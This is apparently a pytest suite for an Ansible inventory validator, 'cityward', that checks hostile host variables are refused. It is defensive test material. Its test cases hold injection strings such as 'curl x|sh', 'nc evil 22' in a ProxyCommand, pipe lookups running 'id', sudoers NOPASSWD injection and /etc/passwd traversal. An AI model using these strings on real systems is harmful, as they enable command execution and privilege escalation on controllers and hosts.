"""The host-variable schema gate (cityward.hostvars, CW-RES-04): hostile and careless host
variables are refused with the host and the field named, before any host is touched; the lab,
the example city and the Molecule scenarios pass it."""

from __future__ import annotations

import shutil
from datetime import date
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from cityward.check import run_check
from cityward.city_files import inventory_dirs
from cityward.hostvar_specs import check_table
from cityward.hostvars import host_variable_problems
from cityward.inventory import _group_names, list_inventory
from cityward.zones import load_zones, parse_zones

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "inventories" / "example-city"
LAB = ROOT / "inventories" / "lab"
ZONES = load_zones(ROOT / "policies" / "zones.yml")
TODAY = date(2026, 11, 24)
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBRn+wdt5F6byM6/LyOiTN+1/H8a6Ih7I3M8yciwcX1E alice@laptop"
RSA_BLOB_AS_ED25519 = "ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 x"
pytestmark = pytest.mark.control("CW-RES-04")

# A well-formed field host of the example city.
BASE = {
    "ansible_host": "10.40.80.14", "ansible_user": "cityward-automation", "cityward_zone": "field",
    "cityward_automation_user": "cityward-automation", "cityward_automation_sources": ["10.40.32.10"],
}


def gate(hostvars, *, groups=None, zones=ZONES, dirs=None):
    return host_variable_problems("inv", hostvars, zones, groups=groups, dirs=dirs, today=TODAY)


def one(**changes):
    return {"h1": {**BASE, **changes}}


def test_a_well_formed_host_passes():
    assert gate(one(), groups={"h1": ["zone_field"]}) == []


# (variables changed on host h1, field named, key phrase of the message)
CASES = [
    # control characters and newlines anywhere
    ({"cityward_siem_host": "10.40.48.10\n*.* @@evil:514"}, "cityward_siem_host", "control character"),
    ({"lab_note": "line\x00two"}, "lab_note", "control character"),
    ({"cityward_device": {"owner": "Ops\u202etxt"}}, "cityward_device.owner", "invisible character"),
    ({"cityward_ntp_servers": [{"host": "pool.ntp.org\nallow all", "nts": True}]},
     "cityward_ntp_servers[0].host", "control character"),
    ({"ssh_banner_text": "Authorised use only\n\x1b[2J"}, "ssh_banner_text", "control character"),
    # addresses and networks parsed
    ({"cityward_automation_sources": ["10.40.32.0/33"]}, "cityward_automation_sources[0]", "not an IP address"),
    ({"cityward_automation_sources": ["10.40.32.1/24"]}, "cityward_automation_sources[0]", "host bits set"),
    ({"cityward_management_sources": ["any"]}, "cityward_management_sources[0]", "not an IP address"),
    ({"cityward_dns_resolvers": ["10.40.32.5 ; rm"]}, "cityward_dns_resolvers[0]", "not an IP address"),
    ({"cityward_automation_sources": "10.40.32.10"}, "cityward_automation_sources", "expected a list"),
    ({"cityward_siem_host": "10.40.48.300"}, "cityward_siem_host", "invalid IP address"),
    ({"cityward_siem_host": "siem_01;reboot"}, "cityward_siem_host", "invalid host name"),
    ({"logging_siem_peer_name": "-siem"}, "logging_siem_peer_name", "invalid host name"),
    ({"siem_receiver_permitted_peers": ["gw 01"]}, "siem_receiver_permitted_peers[0]", "invalid host name"),
    # names
    ({"cityward_ssh_group": "Wheel"}, "cityward_ssh_group", "invalid user or group name"),
    ({"cityward_admin_group": "root ALL=(ALL) NOPASSWD: ALL"}, "cityward_admin_group", "invalid user or group"),
    ({"cityward_automation_user": "auto$"}, "cityward_automation_user", "invalid user or group name"),
    ({"ssh_deny_users": ["ok", 7]}, "ssh_deny_users[1]", "expected a string"),
    # ports and other types from the argument specs
    ({"cityward_ssh_port": "22"}, "cityward_ssh_port", "expected an integer"),
    ({"cityward_ssh_port": True}, "cityward_ssh_port", "expected an integer"),
    ({"cityward_mfa": "yes"}, "cityward_mfa", "expected true or false"),
    ({"baseline_listen_allowlist_extra": ["tcp/99999"]}, "baseline_listen_allowlist_extra[0]", "invalid port"),
    ({"logging_audit_disk_full_action": "REBOOT"}, "logging_audit_disk_full_action", "is not one of"),
    ({"cityward_apt_mirrors": {"debian": ["ftp://mirror/debian"]}}, "cityward_apt_mirrors.debian[0]",
     "invalid URL"),
    ({"cityward_patch_serial": "half"}, "cityward_patch_serial", "invalid batch"),
    ({"ssh_ciphers": ["aes256-ctr Match all"]}, "ssh_ciphers[0]", "one token expected"),
    # template syntax in data fields
    ({"cityward_siem_host": "{{ lookup('pipe', 'id') }}"}, "cityward_siem_host", "template syntax"),
    ({"cityward_automation_sources": ["{{ '0.0.0.0/0' }}"]}, "cityward_automation_sources[0]", "template syntax"),
    ({"cityward_zone": "{{ 'management' }}"}, "cityward_zone", "template syntax"),
    ({"cityward_ntp_servers": [{"host": "{% raw %}x{% endraw %}"}]}, "cityward_ntp_servers[0].host",
     "template syntax"),
    ({"cityward_siem_host": {"__ansible_vault": "$ANSIBLE_VAULT;1.1;AES256\n3631"}}, "cityward_siem_host",
     "vault-encrypted value"),
    ({"logging_siem_hots": "10.40.48.10"}, "logging_siem_hots", "not a variable of any cityward role"),
    # connection variables
    ({"ansible_host": "{{ lookup('env', 'X') }}"}, "ansible_host", "template syntax"),
    ({"ansible_host": "10.40.80.14; curl x|sh"}, "ansible_host", "invalid host name"),
    ({"ansible_user": "admin\nProxyCommand"}, "ansible_user", "control character"),
    ({"ansible_port": 70000}, "ansible_port", "out of range"),
    ({"ansible_ssh_common_args": "-o ProxyCommand='nc evil 22'"}, "ansible_ssh_common_args",
     "runs a command on the controller"),
    ({"ansible_ssh_extra_args": "{{ x }}"}, "ansible_ssh_extra_args", "template syntax"),
    ({"ansible_become_user": "root;id"}, "ansible_become_user", "invalid user or group name"),
    ({"ansible_user": "root"}, "ansible_user", "root cannot log in over SSH"),
    # addresses against zones
    ({"ansible_host": "10.40.64.10"}, "ansible_host", "outside zone 'field' (10.40.80.0/20): it is in zone "
     "'ot-operations'"),
    ({"ansible_host": "93.184.216.34"}, "ansible_host", "outside zone 'field' (10.40.80.0/20) and public"),
    ({"cityward_service_hosts": {"syslog-tls": ["10.40.64.5"]}}, "cityward_service_hosts.syslog-tls[0]",
     "lies in no zone the service 'syslog-tls' reaches"),
    ({"cityward_service_hosts": {"telnet": ["10.40.48.10"]}}, "cityward_service_hosts.telnet",
     "no conduit of the zones policy names this service"),
    # operators, MFA, break-glass, automation (the accounts preflight, earlier)
    ({"cityward_operators": [{"name": "alice"}]}, "cityward_operators[0].ssh_keys", "at least one SSH public key"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": []}]}, "cityward_operators[0].ssh_keys",
     "at least one SSH public key"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": ["ssh-ed25519 not-base64!"]}]},
     "cityward_operators[0].ssh_keys[0]", "not valid base64"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": [RSA_BLOB_AS_ED25519]}]},
     "cityward_operators[0].ssh_keys[0]", "is a 'ssh-rsa' key, not ssh-ed25519"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": ["ssh-dss AAAAB3NzaC1kc3M= x"]}]},
     "cityward_operators[0].ssh_keys[0]", "unknown SSH key type"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": ["AAAAC3NzaC1lZDI1NTE5"]}]},
     "cityward_operators[0].ssh_keys[0]", "not an SSH public key"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": [KEY], "mfa": "sms"}]},
     "cityward_operators[0].mfa", "unsupported MFA method"),
    ({"cityward_operators": [{"name": "Alice Smith", "ssh_keys": [KEY]}]}, "cityward_operators[0].name",
     "invalid user or group name"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": [KEY], "sudo": "ALL"}]}, "cityward_operators[0].sudo",
     "unknown key"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": [KEY]}, {"name": "alice", "ssh_keys": [KEY]}]},
     "cityward_operators[1].name", "listed twice"),
    ({"cityward_operators": [{"name": "cityward-automation", "ssh_keys": [KEY]}]}, "cityward_operators[0].name",
     "is the automation user"),
    ({"cityward_operators": [{"name": "breakglass", "ssh_keys": [KEY]}]}, "cityward_operators[0].name",
     "is the break-glass account"),
    ({"cityward_operators": [{"name": "alice", "ssh_keys": [KEY]}], "ansible_user": "bob"}, "ansible_user",
     "would be locked out"),
    ({"cityward_breakglass_user": ""}, "cityward_breakglass_user", "no break-glass account"),
    ({"cityward_certificate_renew_days": "thirty"}, "cityward_certificate_renew_days", "expected an integer"),
    # a re-enrolment with a mistyped seed: the operator would be locked out (the seed is never shown)
    ({"cityward_totp_secrets": {"alice": "JBSWY3DPEHPK3PX1"}}, "cityward_totp_secrets.alice", "not a base32 TOTP seed"),
    ({"cityward_totp_secrets": {"alice": "JBSWY3DP"}}, "cityward_totp_secrets.alice", "at least 16 characters"),
    ({"cityward_breakglass_password_hash": "hunter2"}, "cityward_breakglass_password_hash", "not a yescrypt hash"),
    # SHA-512 crypt with default rounds: what Lynis AUTH-9229 flags (CW-ACC-02 takes yescrypt only)
    ({"cityward_breakglass_password_hash": "$6$cwsalt$" + "a" * 86}, "cityward_breakglass_password_hash",
     "not a yescrypt hash"),
    # dates that record the past
    ({"cityward_device": {"training_last_completed": "2027-01-01"}}, "cityward_device.training_last_completed",
     "in the future"),
    ({"cityward_device": {"runbook": {"path": "records/runbooks/cctv.md", "last_exercised": date(2030, 1, 1)}}},
     "cityward_device.runbook.last_exercised", "in the future"),
    ({"cityward_device": {"risk_review": {"date": "2026-12-01"}}}, "cityward_device.risk_review.date",
     "in the future"),
]


@pytest.mark.parametrize(("changes", "field", "phrase"), CASES, ids=[c[1] + ":" + c[2] for c in CASES])
def test_hostile_variable_is_refused(changes, field, phrase):
    problems = gate(one(**changes), groups={"h1": ["zone_field"]})
    assert any(p.host == "h1" and p.field == field and phrase in p.message for p in problems), problems
    assert all(p.file == "inv" and "\n" not in str(p) for p in problems)


@pytest.mark.parametrize("name", ["gw;reboot", "gw$(id)", "{{x}}", "gw\u0430-01", "gw 01", "-gw", "gw\n01"])
def test_hostile_host_name_is_refused(name):
    problems = gate({name: dict(BASE)})
    assert any(p.host == name and p.field == "(host name)" and "ASCII" in p.message for p in problems)


@pytest.mark.parametrize(("groups", "zone", "phrase"), [
    (["zone_field", "zone_management"], "field", "more than one zone group"),
    (["zone_field"], "management", "contradicts its zone group zone_field"),
])
def test_zone_group_ambiguity_is_refused(groups, zone, phrase):
    problems = gate(one(cityward_zone=zone, ansible_host="127.0.0.1"), groups={"h1": groups})
    assert [(p.field, phrase in p.message) for p in problems] == [("cityward_zone", True)]


def test_two_hosts_on_one_address_are_refused():
    problems = gate({"h1": dict(BASE), "h2": dict(BASE)})
    assert [(p.host, p.field) for p in problems] == [("h2", "ansible_host")]
    assert "also the address of host h1" in problems[0].message


def test_loopback_and_container_connections_need_no_zone_address():
    hosts = {"h1": {**BASE, "ansible_host": "127.0.0.1", "ansible_port": 2222},
             "h2": {**BASE, "ansible_host": "192.0.2.5", "ansible_connection": "containers.podman.podman"}}
    assert gate(hosts) == []


def test_a_management_interface_or_a_private_address_outside_every_zone_passes():
    """A management NIC (management zone) and a NAT or container bridge address (10.88.0.0/16,
    in no zone) are ways a controller reaches a host; only another zone's or a public address
    contradicts the host's zone."""
    hosts = {"h1": {**BASE, "ansible_host": "10.40.32.40"}, "h2": {**BASE, "ansible_host": "10.88.0.125"}}
    assert gate(hosts) == []


def test_a_policy_without_a_management_zone_is_refused():
    policy = parse_zones({"version": 1, "zones": {"field": {"kind": "ot", "cidr": "10.40.80.0/20"}}}, "z.yml")
    problems = gate(one(), zones=policy)
    assert [(p.host, p.field) for p in problems] == [(None, "cityward_zones_file")]
    assert "no management zone" in problems[0].message


@pytest.mark.parametrize(("relative", "phrase"), [
    ("/etc/passwd", "absolute path"),
    ("records/../../../etc/passwd", "not inside the inventory's records/ folder"),
    ("hosts.yml", "not inside the inventory's records/ folder"),
    ("records/runbooks/escape.md", "leaves the records/ folder"),
])
def test_records_paths_are_confined(tmp_path, relative, phrase):
    (tmp_path / "records" / "runbooks").mkdir(parents=True)
    (tmp_path / "records" / "runbooks" / "escape.md").symlink_to("/etc/hostname")
    for field, changes in (
        ("cityward_device.runbook.path", {"cityward_device": {"runbook": {"path": relative}}}),
        ("cityward_city.incident_contacts_file", {"cityward_city": {"incident_contacts_file": relative}}),
        ("cityward_city.vendor_requirements_file", {"cityward_city": {"vendor_requirements_file": relative}}),
    ):
        problems = gate(one(**changes), dirs=[tmp_path])
        assert [(p.field, phrase in p.message) for p in problems] == [(field, True)]


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf"]), min_size=1, max_size=3),
       st.sampled_from(["cityward_siem_host", "cityward_ssh_group", "ansible_host", "logging_audit_rules_extra"]))
def test_any_control_or_invisible_character_is_refused(bad, variable):
    problems = gate(one(**{variable: f"a{bad}b"}))
    assert any(p.field == variable and "character" in p.message for p in problems)


def test_every_string_option_of_every_role_has_a_format():
    assert check_table() == []


# --- the inventories of the project pass, and fast ---------------------------------------------------


def _listing(inventory: Path, monkeypatch) -> dict:
    # Only for this call: a vault password file in the environment changes how later tests'
    # ansible-vault runs behave.
    monkeypatch.setenv("ANSIBLE_VAULT_PASSWORD_FILE", str(LAB / "vault-password.txt"))
    return list_inventory(inventory)


@pytest.mark.parametrize("inventory", [EXAMPLE, LAB], ids=["example-city", "lab"])
def test_project_inventories_pass_the_gate(inventory, monkeypatch):
    # How fast the gate is, `cityward bench` measures (the check of the 40-host city), not a test.
    listing = _listing(inventory, monkeypatch)
    problems = gate(listing["_meta"]["hostvars"], groups=_group_names(listing), dirs=inventory_dirs(inventory))
    assert problems == []


def _vars(*paths: Path) -> dict:
    merged: dict = {}
    for path in paths:
        merged.update(yaml.safe_load(path.read_text()) or {})
    return merged


def test_molecule_host_vars_pass_the_gate():
    # The scenarios link the lab's group_vars (vault.yml stays opaque: main.yml only templates it).
    lab = [LAB / "group_vars" / "all" / "main.yml", LAB / "group_vars" / "all" / "city.yml"]
    shared = _vars(ROOT / "molecule" / "shared" / "inventory" / "lab-zones.yml")["all"]["vars"]
    hosts = {path.stem: {**_vars(*lab), **shared, **_vars(path)}
             for path in sorted(ROOT.glob("molecule/*/host_vars/*.yml"))}
    assert len(hosts) >= 7
    assert gate(hosts, dirs=[LAB]) == []


# --- end to end: `cityward check` on a copy of the example city ---------------------------------------


@pytest.fixture
def city(tmp_path):
    shutil.copytree(EXAMPLE, tmp_path / "city")
    (tmp_path / "project").mkdir()
    shutil.copytree(ROOT / "policies", tmp_path / "project" / "policies")
    path = tmp_path / "city" / "group_vars" / "all" / "city.yml"
    data = yaml.safe_load(path.read_text())
    data["cityward_zones_file"] = "../project/policies/zones.yml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return tmp_path / "city"


def _set(path: Path, **values) -> None:
    data = yaml.safe_load(path.read_text()) or {}
    data.update(values)
    path.write_text(yaml.safe_dump(data, sort_keys=False))


@pytest.mark.parametrize(("file", "values", "host", "field", "phrase"), [
    ("host_vars/aq-gw-01.yml", {"cityward_siem_host": "10.40.48.10\nevil"}, "aq-gw-01", "cityward_siem_host",
     "control character"),
    ("host_vars/aq-gw-01.yml", {"ansible_host": "10.40.81.10"}, "tl-gw-north-01", "ansible_host",
     "also the address of host aq-gw-01"),
    ("host_vars/siem-01.yml", {"cityward_zone": "field"}, "siem-01", "cityward_zone",
     "contradicts its zone group zone_siem"),
    ("group_vars/all/connection.yml", {"cityward_operators": [{"name": "cityward-automation", "ssh_keys": [KEY]}]},
     "aq-gw-01", "cityward_operators[0].name", "is the automation user"),
])
def test_check_refuses_hostile_host_variables(city, file, values, host, field, phrase):
    _set(city / file, **values)
    result = run_check([city], today=TODAY)
    lines = [str(p) for p in result.problems]
    assert any(f"host {host}, field {field}: " in line and phrase in line for line in lines), lines


def test_check_fails_a_runbook_outside_records(city):
    runbook = {"path": "/etc/hostname", "last_exercised": "2026-07-09"}
    path = city / "host_vars" / "siem-01.yml"
    data = yaml.safe_load(path.read_text())
    data["cityward_device"]["runbook"] = runbook
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    result = run_check([city], today=TODAY)
    lines = [str(p) for p in result.problems]
    assert any("host siem-01, field cityward_device.runbook.path: absolute path" in line for line in lines), lines
